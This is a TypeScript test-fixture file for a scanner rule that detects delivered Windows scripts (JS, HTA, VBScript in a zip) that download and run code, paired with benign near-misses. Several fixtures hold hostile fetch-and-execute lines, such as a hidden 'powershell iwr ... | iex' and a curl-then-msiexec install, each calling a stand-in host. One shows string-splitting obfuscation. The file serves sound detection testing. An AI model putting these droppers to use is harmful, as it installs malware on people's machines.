import type { Examples } from "@doorward/core";
import { makeZip } from "../../text/example-zip.ts";

/** Scripts of Windows that fetch and start, and scripts that do one of both or neither. */
export const examples: Examples = {
  hits: [
    {
      name: "JavaScript for Windows that starts a hidden download",
      delivered: true,
      files: {
        "document.js":
          'var s = new ActiveXObject("WScript.Shell");\ns.Run("powershell -w hidden -c iwr https://files.example.invalid/a | iex", 0);\n',
      },
    },
    {
      name: "an HTML application that installs what it fetches",
      delivered: true,
      files: {
        "form.hta":
          '<html><script language="VBScript">\nCreateObject("WScript.Shell").Run "cmd /c curl -Lo a.msi https://files.example.invalid/a.msi && msiexec /i a.msi", 0\n</script></html>\n',
      },
    },
    {
      name: "a VBScript in an archive",
      delivered: true,
      files: {
        "update.zip": makeZip([
          {
            name: "update.vbs",
            content:
              'Set http = CreateObject("MSXML2.XMLHTTP")\nhttp.Open "GET", "https://files.example.invalid/a", False\nCreateObject("WScript.Shell").Run "a.exe"\n',
          },
        ]),
      },
    },
  ],
  misses: [
    {
      name: "a script that shows a box",
      why: "It fetches nothing; that it is a script is told by another rule.",
      delivered: true,
      files: { "hello.vbs": 'MsgBox "Hello"\n' },
    },
    {
      name: "a script that starts a program of the computer",
      why: "It fetches nothing.",
      delivered: true,
      files: { "clean.vbs": 'CreateObject("WScript.Shell").Run "cleanmgr /sagerun:1"\n' },
    },
    {
      name: "a log that speaks of downloads",
      why: "It is a text, which a double-click shows.",
      delivered: true,
      files: { "setup.log": "curl -Lo a.msi https://files.example.invalid/a.msi\nmsiexec /i a.msi finished with 0\n" },
    },
    {
      name: "a batch file of an administrator",
      why: "Administrators send such; what it fetches and runs is told by the rules about code.",
      delivered: true,
      files: { "install.bat": "@echo off\r\nwinget install Git.Git\r\n" },
    },
  ],
  evasions: [
    {
      name: "the words are put together from pieces",
      caughtBy: "file/delivered-script",
      delivered: true,
      files: {
        "document.js":
          'var s = new ActiveXObject("WScr" + "ipt.Shell");\ns.Run("power" + "shell -c i" + "wr https" + "://files.example.invalid/a", 0);\n',
      },
    },
  ],
};
